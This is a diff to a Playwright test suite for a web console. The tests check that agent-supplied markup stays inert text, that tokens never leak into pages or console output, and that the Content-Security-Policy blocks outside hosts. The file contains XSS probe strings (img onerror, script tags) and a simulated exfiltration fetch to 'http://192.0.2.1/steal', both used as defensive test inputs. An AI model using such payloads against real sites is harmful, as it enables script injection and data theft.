@@ -1,24 +1,44 @@
 import { readFile } from 'node:fs/promises';
-import { control, expect, signInWithForm, signInWithToken, tokenKey, test } from './fixtures.ts';
+import { control, expect, signInWithForm, tokenKey, test, visit } from './fixtures.ts';
 
 /** Markup that would run if any of it were rendered as HTML. */
 const HOSTILE_NAME = '<img src=x onerror="window.__xss=1">';
 const HOSTILE_TEXT = '<script>window.__xss=2</script><b>bold</b>';
 const HOSTILE_PATH = '/x/<img src=y onerror="window.__xss=3">.psd';
 
-test('markup from the agent stays text everywhere it is shown and exported', async ({
+test('the Content-Security-Policy holds, and markup from the agent stays text everywhere it is shown and exported', async ({
 	page,
-	agent
+	agent,
+	cspViolations
 }) => {
-	await page.goto('/login');
+	test.setTimeout(75_000);
+	await test.step('the Content-Security-Policy blocks other hosts, and the suite would notice a violation', async () => {
+		await page.goto('/login');
+		await page.evaluate(() => fetch('http://192.0.2.1/steal').catch(() => undefined));
+		await page.evaluate(() => {
+			const script = document.createElement('script');
+			script.id = 'blocked-inline';
+			script.textContent = 'window.__inline = 1';
+			document.body.append(script);
+		});
+		await expect.poll(() => cspViolations.length).toBe(2);
+		expect(cspViolations.join('\n')).toMatch(/connect-src blocked http:\/\/192\.0\.2\.1/);
+		expect(cspViolations.join('\n')).toMatch(/script-src-elem blocked inline/);
+		expect(await page.evaluate(() => (window as { __inline?: number }).__inline)).toBeUndefined();
+		// Expected here; every other step must end with none, and the page find no script of its
+		// own text.
+		cspViolations.length = 0;
+		await page.evaluate(() => document.getElementById('blocked-inline')?.remove());
+	});
+
 	await signInWithForm(page, 'admin@example.com');
 	await expect(page).toHaveURL(/\/$/);
-	await page.goto('/profile');
+	await visit(page, '/profile');
 	await page.getByLabel('First name').fill(HOSTILE_NAME);
 	await page.getByRole('button', { name: 'Save changes' }).click();
 	await expect(page.getByTestId('profile-details')).toContainText(HOSTILE_NAME);
 
-	await page.goto('/users?q=admin@example.com');
+	await visit(page, '/users?q=admin@example.com');
 	await expect(page.locator('tbody')).toContainText(HOSTILE_NAME);
 	await page.getByRole('button', { name: /img src=x/ }).click();
 	await expect(page.getByRole('dialog')).toContainText(HOSTILE_NAME);
@@ -26,7 +46,7 @@ test('markup from the agent stays text everywhere it is shown and exported', asy
 	await page.keyboard.press('Escape');
 	await expect(page.locator('dialog')).toHaveCount(0);
 
-	await page.goto('/events');
+	await visit(page, '/events');
 	await expect(page.getByTestId('notification-status')).toHaveText('Live');
 	// A frame pushed before its socket is connected is lost.
 	await expect(page.getByTestId('statechange-status')).toHaveText('Live');
@@ -63,6 +83,7 @@ test('the token never shows in the console URL, console messages, page text, exp
 	agent,
 	context
 }) => {
+	test.setTimeout(90_000);
 	const consoleText: string[] = [];
 	const consoleUrls: string[] = [];
 	context.on('console', (msg) => consoleText.push(msg.text()));
@@ -80,7 +101,7 @@ test('the token never shows in the console URL, console messages, page text, exp
 
 	// A session through every page, an error with the body shown, and an export.
 	for (const path of ['/', '/profile', '/users', '/events', '/settings']) {
-		await page.goto(path);
+		await visit(page, path);
 		await expect(page.locator('h1')).toBeVisible();
 		expect(await page.content()).not.toContain(secret);
 	}
@@ -90,11 +111,11 @@ test('the token never shows in the console URL, console messages, page text, exp
 		body: 'json',
 		json: { echo: `/user/get_all_users?token=${token}` }
 	});
-	await page.goto('/users');
+	await visit(page, '/users');
 	await page.getByRole('alert').getByText('Details').click();
 	await expect(page.getByRole('alert')).toContainText('token=***');
 	expect(await page.content()).not.toContain(secret);
-	await page.goto('/events');
+	await visit(page, '/events');
 	await expect(page.getByTestId('notification-status')).toHaveText('Live');
 	// A frame pushed before its socket is connected is lost.
 	await expect(page.getByTestId('statechange-status')).toHaveText('Live');
@@ -125,38 +146,19 @@ test('the token never shows in the console URL, console messages, page text, exp
 
 	for (const url of consoleUrls) expect(url).not.toContain(secret);
 	for (const text of consoleText) expect(text).not.toContain(secret);
-});
 
-test('the Content-Security-Policy blocks other hosts, and the suite would notice a violation', async ({
-	page,
-	cspViolations
-}) => {
-	await page.goto('/login');
-	await page.evaluate(() => fetch('http://192.0.2.1/steal').catch(() => undefined));
-	await page.evaluate(() => {
-		const script = document.createElement('script');
-		script.textContent = 'window.__inline = 1';
-		document.body.append(script);
+	await test.step('a token whose exp is past the range of dates leaves the user menu and sign-out working', async () => {
+		// The agent accepts it (its exp is far in the future); the console cannot make a date of it.
+		agent.tokens.ttlSeconds = 1e13;
+		await signInWithForm(page, 'admin@example.com');
+		await expect(page).toHaveURL(/\/users/);
+		await visit(page, '/');
+		await expect(page.getByText('Signed in as admin@example.com')).toBeVisible();
+		await page.getByRole('button', { name: 'admin@example.com' }).click();
+		await expect(page.locator('#user-menu')).toContainText(
+			'The token does not say when it expires.'
+		);
+		await page.locator('#user-menu').getByRole('button', { name: 'Sign out' }).click();
+		await expect(page).toHaveURL(/\/login/);
 	});
-	await expect.poll(() => cspViolations.length).toBe(2);
-	expect(cspViolations.join('\n')).toMatch(/connect-src blocked http:\/\/192\.0\.2\.1/);
-	expect(cspViolations.join('\n')).toMatch(/script-src-elem blocked inline/);
-	expect(await page.evaluate(() => (window as { __inline?: number }).__inline)).toBeUndefined();
-	// Expected here; every other test must end with none.
-	cspViolations.length = 0;
-});
-
-test('a token whose exp is past the range of dates leaves the user menu and sign-out working', async ({
-	page,
-	agent
-}) => {
-	// The agent accepts it (its exp is far in the future); the console cannot make a date of it.
-	agent.tokens.ttlSeconds = 1e13;
-	await signInWithToken(page, agent);
-	await page.goto('/');
-	await expect(page.getByText('Signed in as admin@example.com')).toBeVisible();
-	await page.getByRole('button', { name: 'admin@example.com' }).click();
-	await expect(page.locator('#user-menu')).toContainText('The token does not say when it expires.');
-	await page.locator('#user-menu').getByRole('button', { name: 'Sign out' }).click();
-	await expect(page).toHaveURL(/\/login/);
 });
